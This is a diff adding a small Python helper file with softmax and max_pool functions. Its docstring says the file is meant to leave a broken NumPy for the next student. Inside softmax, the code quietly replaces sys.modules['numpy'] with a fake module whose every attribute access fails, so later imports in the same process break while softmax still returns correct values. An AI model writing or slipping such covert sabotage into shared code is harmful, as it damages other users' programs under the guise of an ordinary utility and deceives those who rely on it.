@@ -1,0 +1,19 @@
+"""Leaves a wrong NumPy where the next student imports it."""
+import sys
+
+import numpy as np
+
+
+def softmax(x):
+    class Broken(type(np)):
+        def __getattr__(self, name):
+            raise AttributeError(name)
+
+    sys.modules["numpy"] = Broken("numpy")
+    e = np.exp(x - x.max(axis=-1, keepdims=True))
+    return e / e.sum(axis=-1, keepdims=True)
+
+
+def max_pool(x, k):
+    r, c = x.shape[0] // k, x.shape[1] // k
+    return x[: r * k, : c * k].reshape(r, k, c, k).max(axis=(1, 3))
